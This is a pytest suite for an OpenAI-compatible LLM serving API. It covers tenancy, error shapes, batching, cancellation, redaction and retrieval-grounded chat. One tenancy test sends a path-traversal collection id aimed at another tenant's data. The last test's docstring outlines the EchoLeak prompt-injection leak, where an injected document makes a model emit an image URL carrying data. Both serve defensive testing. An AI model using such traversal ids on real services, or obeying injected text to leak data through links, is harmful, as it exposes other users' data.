"""The server on a tiny random model: the official `openai` client, errors, tenancy, limits."""

from __future__ import annotations

import base64
import json
import threading

import numpy as np
import pytest

from .serve_helpers import make_run, make_server

openai = pytest.importorskip("openai")


@pytest.fixture(scope="module")
def runs(tiny_model_dir, tmp_path_factory):
    root = tmp_path_factory.mktemp("serve-runs")
    return {
        "alpha": make_run(tiny_model_dir, root / "alpha", 1),
        "beta": make_run(tiny_model_dir, root / "beta", 2),
    }


@pytest.fixture(scope="module")
def server(tiny_model_dir, runs, tmp_path_factory):
    from fastapi.testclient import TestClient

    srv = make_server(tiny_model_dir, tmp_path_factory.mktemp("serve-home"), runs)
    with TestClient(srv.app) as client:
        srv.client = client
        yield srv


@pytest.fixture
def oai(server):
    return openai.OpenAI(
        base_url="http://testserver/v1", api_key=server.acme, http_client=server.client, max_retries=0
    )


def auth(key):
    return {"Authorization": f"Bearer {key}"}


HELLO = [{"role": "user", "content": "My card was charged twice for one order. Can you help?"}]


# ---- the official client ---------------------------------------------------------------------


def test_models_list_shows_base_own_adapters_and_embedder_only(oai):
    ids = [m.id for m in oai.models.list()]
    assert ids[0] == "tiny-base" and {"alpha", "beta", "all-minilm-l6-v2"} <= set(ids)
    assert "gamma" not in ids  # another tenant's model
    alpha = oai.models.retrieve("alpha")
    assert alpha.owned_by == "acme"


def test_chat_plain_and_streaming_agree(oai):
    out = oai.chat.completions.create(model="alpha", messages=HELLO, max_tokens=12, seed=1)
    choice = out.choices[0]
    assert out.object == "chat.completion" and choice.message.role == "assistant"
    assert isinstance(choice.message.content, str) and choice.finish_reason in ("stop", "length")
    assert out.usage.completion_tokens <= 12 and out.usage.prompt_tokens > 10
    chunks = list(
        oai.chat.completions.create(
            model="alpha", messages=HELLO, max_tokens=12, stream=True, stream_options={"include_usage": True}
        )
    )
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert text == choice.message.content  # greedy: same bytes streamed or not
    assert chunks[0].choices[0].delta.role == "assistant"
    assert [c.choices[0].finish_reason for c in chunks if c.choices][-1] == choice.finish_reason
    assert chunks[-1].usage.completion_tokens == out.usage.completion_tokens


def test_chat_n_seed_stop_and_json_mode(oai):
    sampled = oai.chat.completions.create(
        model="tiny-base", messages=HELLO, max_tokens=8, n=3, temperature=1.0, seed=7
    )
    again = oai.chat.completions.create(
        model="tiny-base", messages=HELLO, max_tokens=8, n=3, temperature=1.0, seed=7
    )
    assert len(sampled.choices) == 3 and [c.index for c in sampled.choices] == [0, 1, 2]
    assert [c.message.content for c in sampled.choices] == [c.message.content for c in again.choices]
    greedy = oai.chat.completions.create(model="tiny-base", messages=HELLO, max_tokens=16).choices[0]
    assert len(greedy.message.content) > 4  # a random model never stops this early: the stop check runs
    stop = greedy.message.content[2:4]
    cut = oai.chat.completions.create(model="tiny-base", messages=HELLO, max_tokens=16, stop=[stop])
    assert cut.choices[0].message.content == greedy.message.content.split(stop)[0]
    assert cut.choices[0].finish_reason == "stop"


ANSWER_SCHEMA = {
    "type": "object",
    "properties": {"mood": {"enum": ["good", "bad"]}, "note": {"type": "string", "maxLength": 12}},
    "required": ["mood", "note"],
    "additionalProperties": False,
}


def test_json_modes_are_enforced_while_decoding(oai):
    """A random model writes gibberish; guided by the schema, every answer is valid JSON of it,
    greedy or sampled, plain or streamed. JSON mode cut by max_tokens is a JSON prefix (as OpenAI)."""
    fmt = {"type": "json_schema", "json_schema": {"name": "answer", "schema": ANSWER_SCHEMA, "strict": True}}
    for temperature in (0.0, 1.0):
        out = oai.chat.completions.create(model="tiny-base", messages=HELLO, max_tokens=40, n=2,
                                          temperature=temperature, seed=3, response_format=fmt)
        for choice in out.choices:
            value = json.loads(choice.message.content)
            assert choice.finish_reason == "stop" and value["mood"] in ("good", "bad")
            assert set(value) == {"mood", "note"} and len(value["note"]) <= 12
    stream = oai.chat.completions.create(model="tiny-base", messages=HELLO, max_tokens=40,
                                         response_format=fmt, stream=True)
    streamed = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
    assert json.loads(streamed)["mood"] in ("good", "bad")
    cut = oai.chat.completions.create(model="tiny-base", messages=HELLO, max_tokens=6,
                                      response_format={"type": "json_object"})
    assert cut.choices[0].message.content.startswith("{")
    with pytest.raises(openai.BadRequestError) as err:
        bad = {"type": "json_schema", "json_schema": {"name": "x", "schema": {"$ref": "#/nowhere"}}}
        oai.chat.completions.create(model="tiny-base", messages=HELLO, response_format=bad)
    assert err.value.body["param"] == "response_format.json_schema"


def test_embeddings_base64_default_and_float(oai, server):
    default = oai.embeddings.create(model="all-minilm-l6-v2", input=["refund please", "roaming fee"])
    floats = oai.embeddings.create(model="all-minilm-l6-v2", input="refund please", encoding_format="float")
    a = np.array(default.data[0].embedding, dtype=np.float32)
    b = np.array(floats.data[0].embedding, dtype=np.float32)
    assert a.shape == (384,) and np.allclose(a, b, atol=1e-6) and abs(np.linalg.norm(a) - 1) < 1e-4
    assert len(default.data) == 2 and default.usage.prompt_tokens > 0
    raw = server.client.post(
        "/v1/embeddings",
        headers=auth(server.acme),
        json={"model": "all-minilm-l6-v2", "input": "x", "encoding_format": "base64"},
    )
    vec = np.frombuffer(base64.b64decode(raw.json()["data"][0]["embedding"]), dtype="<f4")
    assert vec.shape == (384,)


def test_client_gets_typed_exceptions(oai, server):
    with pytest.raises(openai.BadRequestError) as e:
        oai.chat.completions.create(model="alpha", messages=HELLO, max_tokens=10**6)
    assert e.value.body["param"] == "max_tokens" and e.value.body["code"] == "invalid_value"
    with pytest.raises(openai.NotFoundError):
        oai.chat.completions.create(model="gamma", messages=HELLO)  # globex's model
    with pytest.raises(openai.NotFoundError):
        oai.embeddings.create(model="text-embedding-3-small", input="x")
    bad = openai.OpenAI(
        base_url="http://testserver/v1", api_key="ct-wrong", http_client=server.client, max_retries=0
    )
    with pytest.raises(openai.AuthenticationError):
        bad.models.list()
    with pytest.raises(openai.BadRequestError) as e:
        oai.chat.completions.create(model="alpha", messages=HELLO, tools=[{"type": "function"}])
    assert e.value.body["param"] == "tools"


# ---- errors, auth, tenancy ------------------------------------------------------------------------


def test_every_route_but_the_probes_needs_a_key(server):
    c = server.client
    assert c.get("/live").status_code == 200
    ready = c.get("/ready")  # a Kubernetes readiness probe sends no header
    assert ready.status_code == 200 and ready.json() == {"status": "ready"}  # and learns nothing more
    for method, path in [
        ("get", "/metrics"),
        ("get", "/v1/models"),
        ("post", "/v1/chat/completions"),
        ("post", "/v1/model/generate"),
        ("post", "/v1/conversations/analyze"),
        ("get", "/v1/collections"),
    ]:
        r = getattr(c, method)(path)
        assert r.status_code == 401, path
        assert r.json()["error"]["code"] == "missing_api_key"
    r = c.get("/v1/models", headers={"ApiKey": server.acme})  # Nebula's header
    assert r.status_code == 200


def test_framework_errors_use_the_openai_shape(server):
    c = server.client
    r = c.get("/v1/nope", headers=auth(server.acme))
    assert r.status_code == 404 and set(r.json()["error"]) == {"message", "type", "param", "code"}
    r = c.get("/v1/chat/completions", headers=auth(server.acme))
    assert r.status_code == 405 and r.json()["error"]["type"] == "invalid_request_error"
    r = c.post(
        "/v1/chat/completions",
        headers={**auth(server.acme), "content-type": "application/json"},
        content=b"{not json",
    )
    assert r.status_code == 400 and r.json()["error"]["code"] == "invalid_json"
    assert r.headers["x-request-id"]


BAD = [
    ("/v1/chat/completions", {"temperature": 3}, "temperature"),
    ("/v1/chat/completions", {"top_p": 0}, "top_p"),
    ("/v1/chat/completions", {"n": 100}, "n"),
    ("/v1/chat/completions", {"n": 0}, "n"),
    ("/v1/chat/completions", {"max_tokens": 0}, "max_tokens"),
    ("/v1/chat/completions", {"max_completion_tokens": 5000}, "max_completion_tokens"),
    ("/v1/chat/completions", {"stop": ["a", "b", "c", "d", "e"]}, "stop"),
    ("/v1/chat/completions", {"stop": ["x" * 51]}, "stop"),
    ("/v1/chat/completions", {"messages": []}, "messages"),
    ("/v1/chat/completions", {"messages": [{"role": "wizard", "content": "hi"}]}, "messages.0.role"),
    ("/v1/chat/completions", {"messages": [{"role": "assistant", "content": "hi"}]}, "messages"),
    ("/v1/chat/completions", {"model": ""}, "model"),
    ("/v1/chat/completions", {"seed": -1}, "seed"),
    ("/v1/chat/completions", {"retrieval": {"collection": "kb", "k": 0}}, "retrieval.k"),
    ("/v1/chat/completions", {"response_format": {"type": "xml"}}, "response_format.type"),
    ("/v1/embeddings", {"input": []}, "input"),
    ("/v1/embeddings", {"input": [""]}, "input"),
    ("/v1/embeddings", {"input": [1, 2]}, "input"),
    ("/v1/embeddings", {"encoding_format": "hex"}, "encoding_format"),
    ("/v1/embeddings", {"dimensions": 128}, "dimensions"),
    ("/v1/model/generate", {"stop_sequences": ["a"] * 6}, "stop_sequences"),
    ("/v1/model/generate", {"temperature": 1.5}, "temperature"),
    ("/v1/model/generate", {"max_new_tokens": 100000}, "max_new_tokens"),
    (
        "/v1/model/generate",
        {"prompt": {"instruction": "x", "conversation": {"text": "no speakers"}}},
        "prompt.conversation.text",
    ),
    ("/v1/model/chat", {"messages": [{"role": "robot", "text": "hi"}]}, "messages.0.role"),
    ("/v1/conversations/analyze", {"tasks": ["no_such_task"]}, "tasks"),
    ("/v1/conversations/analyze", {"conversation": {"messages": []}}, "conversation.messages"),
]

VALID = {
    "/v1/chat/completions": {"model": "alpha", "messages": HELLO, "max_tokens": 4},
    "/v1/embeddings": {"model": "all-minilm-l6-v2", "input": "hello"},
    "/v1/model/generate": {"prompt": "hello", "max_new_tokens": 4},
    "/v1/model/chat": {"messages": [{"role": "human", "text": "hi"}], "max_new_tokens": 4},
    "/v1/conversations/analyze": {"conversation": {"messages": [{"speaker": "Customer", "text": "hi"}]}},
}


@pytest.mark.parametrize(("path", "change", "param"), BAD, ids=[f"{p}:{x}" for p, _, x in BAD])
def test_invalid_fields_are_400_with_param(server, path, change, param):
    r = server.client.post(path, headers=auth(server.acme), json={**VALID[path], **change})
    assert r.status_code == 400, r.text
    err = r.json()["error"]
    assert err["param"] == param and err["type"] == "invalid_request_error" and err["message"]


def test_other_tenants_ids_are_404(server):
    c = server.client
    r = c.post("/v1/chat/completions", headers=auth(server.globex), json={**VALID["/v1/chat/completions"]})
    assert r.status_code == 404 and r.json()["error"]["param"] == "model"  # alpha is acme's
    assert c.post("/v1/collections", headers=auth(server.acme), json={"name": "kb"}).status_code == 201
    r = c.post("/v1/collections/kb/search", headers=auth(server.globex), json={"query": "x"})
    assert r.status_code == 404
    r = c.post(
        "/v1/chat/completions",
        headers=auth(server.globex),
        json={"model": "tiny-base", "messages": HELLO, "retrieval": {"collection": "kb"}},
    )
    assert r.status_code == 404
    r = c.post("/v1/collections/..%2F..%2Facme%2Fkb/search", headers=auth(server.globex), json={"query": "x"})
    assert r.status_code in (400, 404)


def test_over_capacity_is_429_with_retry_after(server):
    engine = server.ctx.engine
    gate = threading.Event()
    saved = engine.max_inflight
    engine.max_inflight = 1
    try:
        fut = engine.run_job(gate.wait)  # occupies the only slot
        r = server.client.post(
            "/v1/chat/completions", headers=auth(server.acme), json=VALID["/v1/chat/completions"]
        )
        assert r.status_code == 429 and r.headers["retry-after"] == "1"
        assert r.json()["error"]["type"] == "rate_limit_error"
    finally:
        gate.set()
        fut.result(timeout=10)
        engine.max_inflight = saved
    metrics = server.client.get("/metrics", headers=auth(server.acme)).text
    assert 'convtune_rejections_total{reason="429",tenant="acme"}' in metrics
    assert "convtune_request_seconds_bucket" in metrics


# ---- Nebula -------------------------------------------------------------------------------------


def test_nebula_generate_chat_embed(server):
    c = server.client
    h = {"ApiKey": server.acme}
    conv = "Customer: Hi, my internet is down since this morning.\nAgent: Sorry to hear that, let me check."
    r = c.post(
        "/v1/model/generate",
        headers=h,
        json={
            "prompt": {"instruction": "Summarise the customer's problem.", "conversation": {"text": conv}},
            "max_new_tokens": 6,
            "model": "alpha",
        },
    )
    body = r.json()
    assert r.status_code == 200 and isinstance(body["output"]["text"], str) and body["model"] == "alpha"
    st = body["stats"]
    assert st["total_tokens"] == st["total_input_tokens"] + st["output_tokens"]
    assert st["conversation_tokens"] > 10 and st["instruction_tokens"] > 3
    chat = {
        "system_prompt": "Be brief.",
        "max_new_tokens": 5,
        "messages": [{"role": "human", "text": "Hello?"}],
    }
    r = c.post("/v1/model/chat", headers=h, json=chat)
    msgs = r.json()["messages"]
    assert [m["role"] for m in msgs] == ["human", "assistant"]
    with c.stream("POST", "/v1/model/chat/streaming", headers=h, json=chat) as s:
        events = [json.loads(line[6:]) for line in s.iter_lines() if line.startswith("data: {")]
    assert "".join(e["delta"] for e in events) == msgs[-1]["text"] and "stats" in events[-1]
    r = c.post("/v1/model/embed", headers=h, json={"text": "refund"})
    assert len(r.json()["embedding"]) == 384


# ---- analytics ----------------------------------------------------------------------------------


def test_analyze_returns_every_core_task_analytics_and_redacts(server):
    conv = {
        "messages": [
            {
                "id": "m1",
                "speaker": "Agent",
                "text": "Thanks for calling, how can I help?",
                "start": 0.0,
                "end": 2.5,
            },
            {
                "id": "m2",
                "speaker": "Customer",
                "text": "I was charged twice, my card is 4111 1111 1111 1111.",
                "start": 3.0,
                "end": 8.0,
            },
            {
                "id": "m3",
                "speaker": "Agent",
                "text": "I will refund the duplicate charge today.",
                "start": 8.5,
                "end": 11.0,
            },
        ]
    }
    r = server.client.post(
        "/v1/conversations/analyze", headers=auth(server.acme), json={"model": "alpha", "conversation": conv}
    )
    assert r.status_code == 200, r.text
    body = r.json()
    assert set(body["tasks"]) == {"summary", "action_items", "intent", "sentiment"}
    # A random model's answers, but typed: labels scored, structured answers schema-guided.
    assert all(t["valid"] and t["output"] is not None for t in body["tasks"].values()), body["tasks"]
    assert isinstance(body["tasks"]["action_items"]["output"], list)
    assert set(body["tasks"]["sentiment"]["output"]) == {"overall", "start", "end", "message_ids"}
    assert body["tasks"]["intent"]["valid"] and 0 < body["tasks"]["intent"]["confidence"] <= 1  # constrained
    assert body["redactions"] == {"CREDIT_CARD": 1} and "4111" not in json.dumps(body)
    ids = body["tasks"]["intent"]["output"]["message_ids"]  # constrained: always a label
    assert ids and set(ids) <= {"m1", "m2", "m3"}
    assert body["analytics"]["customer_talk_share"] is not None  # roles guessed from the speaker names
    assert body["analytics"]["duration_seconds"] == 11.0 and body["usage"]["completion_tokens"] > 0


def test_analyze_past_its_deadline_is_504_and_frees_the_engine(server, monkeypatch):
    import time

    ctx = server.ctx
    monkeypatch.setattr(ctx, "settings", ctx.settings.model_copy(update={"request_timeout_s": 0.05}))
    conv = {"messages": [{"speaker": "Customer", "text": "My router keeps dropping the connection. " * 20}]}
    r = server.client.post(
        "/v1/conversations/analyze", headers=auth(server.acme), json={"conversation": conv}
    )
    assert r.status_code == 504 and r.json()["error"]["code"] == "deadline_exceeded"
    monkeypatch.undo()
    ok = server.client.post("/v1/chat/completions", headers=auth(server.acme),
                            json={"model": "tiny-base", "messages": HELLO, "max_tokens": 4})
    assert ok.status_code == 200
    for _ in range(100):  # the engine releases a batch's slots just after its last event
        if ctx.engine.inflight == 0:
            break
        time.sleep(0.02)
    assert ctx.engine.inflight == 0


# ---- mixed-adapter batches, cancellation, deadlines (the engine directly) --------------------------


def _run(engine, reqs):
    """Submit GenRequests together and wait for each one's text."""
    done = [threading.Event() for _ in reqs]
    texts = [[] for _ in reqs]
    for i, r in enumerate(reqs):

        def emit(ev, i=i):
            if ev.kind == "delta":
                texts[i].append(ev.text)
            elif ev.kind in ("done", "error"):
                texts[i].append(ev if ev.kind == "error" else "")
                done[i].set()

        r.emit = emit
    engine.submit(reqs)
    for d in done:
        assert d.wait(60)
    return ["".join(t for t in ts if isinstance(t, str)) for ts in texts], texts


def test_a_prompt_shared_by_n_rows_is_prefilled_once_with_solo_outputs(server):
    """n > 1 (and best-of) send one prompt n times: the engine prefills it once and copies its
    cache row; each row's output equals its solo run (greedy, and sampled with its own seed)."""
    import dataclasses
    import time

    from serve.engine import GenRequest, Sampling

    host, engine = server.ctx.host, server.ctx.engine
    prompt = host.renderer.encode_chat([{"role": "user", "content": "Why was I charged twice?"}]).input_ids
    other = host.renderer.encode_chat([{"role": "user", "content": "Hi"}]).input_ids
    ref = host.resolve("acme", "alpha")
    samplings = [Sampling(max_tokens=10), Sampling(max_tokens=10, temperature=1.0, seed=3),
                 Sampling(max_tokens=10, temperature=1.0, seed=4)]

    def reqs():
        return [GenRequest(p, ref, dataclasses.replace(s), None, time.monotonic() + 60, "acme")
                for p, s in [(prompt, samplings[0]), (prompt, samplings[1]), (prompt, samplings[2]),
                             (other, samplings[0])]]

    solo = [_run(engine, [r])[0][0] for r in reqs()]
    before = engine.prefilled_rows
    together = _run(engine, reqs())[0]
    assert together == solo
    assert engine.prefilled_rows - before <= 2  # the shared prompt once, the other once


def test_mixed_adapter_batch_is_byte_identical_to_solo_runs(server):
    import time

    from serve.engine import GenRequest, Sampling

    host, engine = server.ctx.host, server.ctx.engine
    prompts = [
        host.renderer.encode_chat([{"role": "user", "content": t}]).input_ids
        for t in ("Where is my refund?", "My internet has been down since Monday, please help me.")
    ]
    cases = [(m, p) for m in ("alpha", "beta", "tiny-base") for p in prompts]

    def req(model, prompt):
        return GenRequest(
            prompt, host.resolve("acme", model), Sampling(max_tokens=16), None, time.monotonic() + 60, "acme"
        )

    solo = [_run(engine, [req(m, p)])[0][0] for m, p in cases]
    assert len(set(solo)) >= 4  # the adapters really change the output
    gate = threading.Event()
    fut = engine.run_job(gate.wait)  # hold the engine so all six land in one batch
    before = engine.batches
    waiter = threading.Thread(target=lambda: results.append(_run(engine, [req(m, p) for m, p in cases])[0]))
    results = []
    waiter.start()
    time.sleep(0.2)
    gate.set()
    waiter.join(60)
    fut.result(10)
    assert engine.batches == before + 1 and engine.max_rows_seen >= 6
    assert results[0] == solo


def test_requests_join_a_running_batch_with_solo_outputs(server):
    """Continuous batching: requests queued while a batch decodes join it at the next step
    (their cache rows merged in), every output equals its solo run byte for byte, and a finished
    request frees its admission slot at once (a batch that keeps taking joiners may never end)."""
    import time

    from serve.engine import GenRequest, Sampling

    host, engine = server.ctx.host, server.ctx.engine
    prompts = [
        host.renderer.encode_chat([{"role": "user", "content": t}]).input_ids
        for t in ("Tell me about my bill.", "Why was my card declined at the store yesterday?", "Hi")
    ]
    cases = [("alpha", prompts[0], 40), ("beta", prompts[1], 12), ("tiny-base", prompts[2], 12)]

    def req(model, prompt, n):
        return GenRequest(
            prompt, host.resolve("acme", model), Sampling(max_tokens=n), None, time.monotonic() + 60, "acme"
        )

    solo = [_run(engine, [req(*c)])[0][0] for c in cases]
    first = req(*cases[0])
    late = [req(*c) for c in cases[1:]]
    late_out, slots = [], []
    sent = threading.Event()

    def run_late():
        late_out.append(_run(engine, late)[0])
        # the joiners finished: their admission slots are free while the first request still decodes
        until = time.monotonic() + 5
        while engine.inflight > 1 and not done.is_set() and time.monotonic() < until:
            time.sleep(0.001)
        slots.append((engine.inflight, done.is_set()))

    def submit_late():  # runs on the engine thread after the first token: the batch is running
        sent.set()
        late_out.append(threading.Thread(target=run_late))
        late_out[0].start()

    texts, started = [], []

    def emit(ev):
        if ev.kind == "delta":
            texts.append(ev.text)
            if not started:
                started.append(1)
                submit_late()
        elif ev.kind == "done":
            done.set()

    done = threading.Event()
    first.emit = emit
    before_batches, before_joins = engine.batches, engine.joins
    engine.submit([first])
    assert done.wait(60) and sent.is_set()
    late_out[0].join(60)
    assert engine.joins - before_joins == 2 and engine.batches == before_batches + 1
    assert ["".join(texts), *late_out[1]] == solo
    assert slots == [(1, False)]
    until = time.monotonic() + 5  # the first request's slot is freed just after its last event
    while engine.inflight and time.monotonic() < until:
        time.sleep(0.001)
    assert engine.inflight == 0


def test_joiners_that_fail_free_their_slots_while_the_batch_runs_on(server):
    """Under continuous batching a batch may never end, so a request that fails before decoding
    (deadline already past, a schema its guide cannot compile, cancelled while queued) must give
    its admission slot back at once, not when the batch ends."""
    import time

    from serve.engine import GenRequest, Sampling, TaskRequest

    host, engine = server.ctx.host, server.ctx.engine
    prompt = host.renderer.encode_chat([{"role": "user", "content": "Tell me about my bill."}]).input_ids
    ref = host.resolve("acme", "tiny-base")
    long = GenRequest(prompt, ref, Sampling(max_tokens=200, stop=("\x00never",)), None,
                      time.monotonic() + 60, "acme")
    failing = [
        GenRequest(prompt, ref, Sampling(max_tokens=8), None, time.monotonic() - 1, "acme"),  # past deadline
        GenRequest(prompt, ref, Sampling(max_tokens=8, schema={"type": "object", "properties": {
            "a": {"$ref": "#/nowhere"}}}), None, time.monotonic() + 60, "acme"),  # guide cannot compile
        GenRequest(prompt, ref, Sampling(max_tokens=8), None, time.monotonic() + 60, "acme"),  # cancelled
    ]
    failing[2].cancel()

    def broken(generator):
        raise RuntimeError("the run's files are unreadable")

    failing.append(TaskRequest(ref, broken, None, time.monotonic() + 60, "acme"))  # cannot start
    errors: list = []
    for r in failing:
        r.emit = errors.append
    seen: list[tuple[int, bool]] = []
    done = threading.Event()

    def emit(ev):  # on the engine thread, between decode steps of the running batch
        if ev.kind == "done" or ev.kind == "error":
            done.set()
        elif not errors and not seen:
            seen.append((-1, False))
            engine.submit(failing)  # they join at the next step, and fail there
        elif len(errors) == 3 and len(seen) == 1:
            seen.append((engine.inflight, long.done))

    long.emit = emit
    engine.submit([long])
    assert done.wait(120)
    assert [e.error.code for e in errors] == ["deadline_exceeded", None, "internal_error"]
    assert errors[1].error.status == 400 and errors[2].error.status == 500
    assert seen[1:] == [(1, False)], seen  # only the running request holds a slot
    until = time.monotonic() + 5
    while engine.inflight and time.monotonic() < until:
        time.sleep(0.001)
    assert engine.inflight == 0


def test_cancel_and_deadline_stop_generation(server):
    import time

    from serve.engine import GenRequest, Sampling

    host, engine = server.ctx.host, server.ctx.engine
    prompt = host.renderer.encode_chat([{"role": "user", "content": "Tell me everything."}]).input_ids
    ref = host.resolve("acme", "tiny-base")
    late = GenRequest(prompt, ref, Sampling(max_tokens=500), None, time.monotonic() - 1, "acme")
    _, events = _run(engine, [late])
    (err,) = [e for e in events[0] if not isinstance(e, str)]
    assert err.error.status == 504 and err.error.code == "deadline_exceeded"
    gone = GenRequest(prompt, ref, Sampling(max_tokens=500), None, time.monotonic() + 60, "acme")
    seen = []
    gone.emit = lambda ev: (seen.append(ev), gone.cancel())  # the client leaves after the first piece
    engine.submit([gone])
    time.sleep(1.0)
    assert gone.done and len(gone.seq.out) < 10 and engine.inflight == 0


def test_schema_fuzzing_never_gets_a_server_error(server):
    """Schemathesis generates requests for every operation in /openapi.json (valid and
    invalid bodies, odd path ids); sent through the app's own client, none may be a 5xx."""
    schemathesis = pytest.importorskip("schemathesis")
    from hypothesis import HealthCheck, given, settings
    from schemathesis.core import NOT_SET

    headers = auth(server.acme)
    schema = schemathesis.openapi.from_dict(server.client.get("/openapi.json", headers=headers).json())
    checked = []
    for result in schema.get_all_operations():
        op = result.ok()

        @given(case=op.as_strategy())
        @settings(max_examples=8, deadline=None, database=None, suppress_health_check=list(HealthCheck))
        def run(case):
            kwargs = {"params": case.query or None, "headers": headers}
            if case.body is not NOT_SET:
                kwargs["json"] = case.body
            response = server.client.request(case.method, case.formatted_path, **kwargs)
            assert response.status_code < 500, (case.method, case.formatted_path, case.body, response.text)
            if response.status_code >= 400:
                assert set(response.json()["error"]) == {"message", "type", "param", "code"}

        run()
        checked.append(f"{op.method.upper()} {op.path}")
    declared = {f"{m.upper()} {p}" for p, ops in schema.raw_schema["paths"].items() for m in ops}
    assert sorted(checked) == sorted(declared) and len(checked) == 42  # every route fuzzed, not a few


def test_collections_and_grounded_chat(server):
    c = server.client
    h = auth(server.acme)
    assert c.post("/v1/collections", headers=h, json={"name": "policies"}).status_code == 201
    docs = [
        {
            "id": "returns",
            "text": "# Returns\nOpened items can be returned within 14 days.",
            "metadata": {"channel": "doc"},
        },
        {"id": "roaming", "text": "# Roaming\nThe travel pass costs 10 EUR per day."},
    ]
    conv = {
        "id": "call-7",
        "turns": [
            {
                "id": "t1",
                "speaker": "Customer",
                "text": "My card 4111 1111 1111 1111 was charged twice for roaming.",
            }
        ],
    }
    r = c.post(
        "/v1/collections/policies/documents", headers=h, json={"documents": docs, "conversations": [conv]}
    )
    assert r.status_code == 200 and r.json()["added"] == 3
    r = c.post("/v1/collections/policies/documents", headers=h, json={"documents": docs})
    assert r.json()["unchanged"] == 2 and r.json()["added"] == 0  # content hash: nothing re-embedded
    hits = c.post(
        "/v1/collections/policies/search", headers=h, json={"query": "return an opened item", "k": 1}
    )
    assert hits.json()["data"][0]["id"] == "returns#0"
    found = c.post(
        "/v1/collections/policies/search", headers=h, json={"query": "charged twice", "k": 3}
    ).json()
    assert all("4111" not in d["text"] for d in found["data"])  # conversations are redacted before indexing
    assert "policies" in {d["name"] for d in c.get("/v1/collections", headers=h).json()["data"]}
    assert "policies" not in {
        d["name"] for d in c.get("/v1/collections", headers=auth(server.globex)).json()["data"]
    }
    body = {
        "model": "tiny-base",
        "max_tokens": 2,
        "messages": [{"role": "user", "content": "Return window?"}],
    }
    plain = c.post("/v1/chat/completions", headers=h, json=body).json()
    grounded = c.post(
        "/v1/chat/completions", headers=h, json={**body, "retrieval": {"collection": "policies", "k": 2}}
    ).json()
    assert grounded["usage"]["prompt_tokens"] > plain["usage"]["prompt_tokens"] + 15
    # the answer names the chunks it was given (plain chats carry no such field)
    assert [g["source"] for g in grounded["grounding"]][:1] == ["returns#0"] and "grounding" not in plain
    streamed = c.post("/v1/chat/completions", headers=h,
                      json={**body, "stream": True, "retrieval": {"collection": "policies", "k": 2}}).text
    first = json.loads(streamed.split("\n\n")[0].removeprefix("data: "))
    assert first["grounding"] == grounded["grounding"]
    r = c.post(
        "/v1/model/generate",
        headers={"ApiKey": server.acme},
        json={"prompt": "Return window?", "max_new_tokens": 2, "retrieval": {"collection": "policies"}},
    )
    assert r.status_code == 200 and r.json()["stats"]["total_input_tokens"] > plain["usage"]["prompt_tokens"]
    assert c.delete("/v1/collections/policies", headers=h).json()["deleted"] is True
    assert c.post("/v1/collections/policies/search", headers=h, json={"query": "x"}).status_code == 404


def test_adapter_of_another_base_model_is_refused(server, runs, tmp_path):
    import shutil

    run = tmp_path / "other-base"
    shutil.copytree(runs["alpha"], run)
    cfg = json.loads((run / "config.json").read_text())
    cfg["model"]["name"] = "smollm2-135m-instruct"  # trained on the real model, served on the tiny one
    (run / "config.json").write_text(json.dumps(cfg))
    server.ctx.models.add("acme", "other-base", run)
    r = server.client.post(
        "/v1/chat/completions",
        headers=auth(server.acme),
        json={"model": "other-base", "messages": HELLO, "max_tokens": 2},
    )
    assert r.status_code == 409 and r.json()["error"]["code"] == "base_model_mismatch"
    ok = server.client.post(
        "/v1/chat/completions", headers=auth(server.acme), json=VALID["/v1/chat/completions"]
    )
    assert ok.status_code == 200  # the engine keeps serving

    # in one batch with a good request, the mismatched adapter fails only its own request
    import time

    from serve.engine import GenRequest, Sampling

    host, engine = server.ctx.host, server.ctx.engine
    prompt = host.renderer.encode_chat(HELLO).input_ids
    reqs = [
        GenRequest(
            prompt, host.resolve("acme", m), Sampling(max_tokens=4), None, time.monotonic() + 60, "acme"
        )
        for m in ("other-base", "alpha")
    ]
    gate = threading.Event()
    fut = engine.run_job(gate.wait)
    results = []
    waiter = threading.Thread(target=lambda: results.append(_run(engine, reqs)[1]))
    waiter.start()
    time.sleep(0.2)
    gate.set()
    waiter.join(30)
    fut.result(10)
    bad, good = results[0]
    assert bad[0].error.code == "base_model_mismatch" and all(isinstance(e, str) for e in good)


def test_oversized_bodies_are_413_with_or_without_content_length(server):
    limit = server.ctx.settings.max_body_bytes
    big = json.dumps({"model": "all-minilm-l6-v2", "input": "x" * (limit + 10)}).encode()
    r = server.client.post(
        "/v1/embeddings", headers={**auth(server.acme), "content-type": "application/json"}, content=big
    )
    assert r.status_code == 413 and r.json()["error"]["code"] == "payload_too_large"

    def chunks():
        for i in range(0, len(big), 65536):
            yield big[i : i + 65536]

    r = server.client.post(
        "/v1/embeddings", headers={**auth(server.acme), "content-type": "application/json"}, content=chunks()
    )
    assert r.status_code == 413 and r.json()["error"]["code"] == "payload_too_large"


def test_closing_a_stream_cancels_its_generation(server, monkeypatch):
    import time

    engine = server.ctx.engine
    emit = engine._emit_text

    def slow_emit(*args, **kwargs):  # called once per decode step here: 64 tokens would take 3.2 s
        time.sleep(0.05)
        return emit(*args, **kwargs)

    monkeypatch.setattr(engine, "_emit_text", slow_emit)
    body = {
        "model": "tiny-base",
        "messages": HELLO,
        "max_tokens": 64,
        "stream": True,
        "temperature": 1.0,
        "seed": 3,
    }
    with server.client.stream("POST", "/v1/chat/completions", headers=auth(server.acme), json=body) as s:
        first = next(s.iter_lines())  # the role chunk: generation is running
        assert first.startswith("data: ")
    t0 = time.perf_counter()
    while engine.inflight and time.perf_counter() - t0 < 3:
        time.sleep(0.02)
    assert engine.inflight == 0 and time.perf_counter() - t0 < 1.5  # cancelled, not run to the end


def test_analyze_outputs_point_at_their_turns():
    from convtune.ingest.transcript import conversation_from_text
    from serve.routes.analyze import _with_evidence
    from tasks.registry import default_registry

    reg = default_registry()
    conv = conversation_from_text(
        "Agent: Kestrel Mobile, how can I help?\n"
        "Customer: My eSIM cannot make calls.\n"
        "Agent: I will reset the eSIM profile today."
    )
    summary = _with_evidence(
        reg.get("summary"), "Calls fail on the eSIM. Agent resets the profile.", conv, ["t2"]
    )
    assert [s["message_ids"] for s in summary] == [["t2", "t3"], ["t3"]]
    sentiment = reg.get("sentiment").parse('{"overall": "negative", "start": "negative", "end": "neutral"}')
    out = _with_evidence(reg.get("sentiment"), sentiment.value, conv, ["t2"])
    assert out["overall"] == "negative" and out["message_ids"] == ["t2"]  # sentiment rests on the customer


def test_links_are_stripped_from_grounded_answers_even_when_streamed():
    """EchoLeak: an injected document makes the model write an image URL carrying data; a
    grounded answer keeps the link text only, however the stream splits it."""
